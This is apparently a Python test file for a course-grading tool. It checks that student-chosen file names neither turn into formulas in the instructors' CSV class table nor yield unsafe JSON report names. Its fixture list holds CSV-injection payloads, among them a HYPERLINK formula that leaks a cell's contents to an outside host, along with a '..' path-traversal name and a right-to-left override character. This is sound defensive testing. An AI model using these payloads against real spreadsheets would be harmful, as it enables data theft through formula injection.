"""The class table and the JSON reports stay sound whatever a student names a file.

A submission's file and folder names are chosen by the student; they reach the CSV table
(which instructors open in a spreadsheet) and the names of the JSON reports.
"""

from __future__ import annotations

import csv
import json

from aisearch.grading.question import QuestionResult
from aisearch.grading.report import Report, write_csv, write_json

NAMES = ['=HYPERLINK("http://example.com/?"&A1,"marks")', "+1+1", "-2+3", "@SUM(A1:A9)",
         'comma, "quote"', "line\nbreak", "\t=tab first", "cr\r=2", "alice", "", "..",
         "\u202eevil", "=1"]


def reports(tmp_path):
    out = []
    for i, name in enumerate(NAMES):
        r = Report(str(tmp_path / "class" / f"{i}{name}" / "03_alpha_beta.ipynb"), name, "03", 7)
        r.questions.append(QuestionResult("03.value", "value", 2, earned=1, status="failed"))
        r.notes.append(f"=note of {name}")
        out.append(r)
    return out


def test_no_cell_of_the_class_table_is_a_formula_and_each_submission_is_one_row(tmp_path):
    path = write_csv(reports(tmp_path), tmp_path / "class.csv")
    rows = list(csv.reader(open(path, newline="", encoding="utf-8")))
    assert len(rows) == 1 + len(NAMES)
    assert {len(row) for row in rows} == {len(rows[0])}
    for row, name in zip(rows[1:], NAMES, strict=True):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
        assert "\n" not in "".join(row) and "\u202e" not in "".join(row)
        assert row[0].removeprefix("'").replace("\\n", "\n").replace("\\t", "\t").replace(
            "\\r", "\r").replace("\\u202e", "\u202e") == name
        assert row[6] == "1"


def test_json_reports_have_one_file_each_inside_the_folder_named_safely(tmp_path):
    written = write_json(reports(tmp_path), tmp_path / "json")
    assert len(written) == len(set(written)) == len(NAMES)
    for path in written:
        assert path.parent == tmp_path / "json" and path.suffix == ".json"
        assert path.name.isprintable() and not path.name.startswith(".")
    students = [json.loads(p.read_text(encoding="utf-8"))["student"] for p in written]
    assert students == NAMES
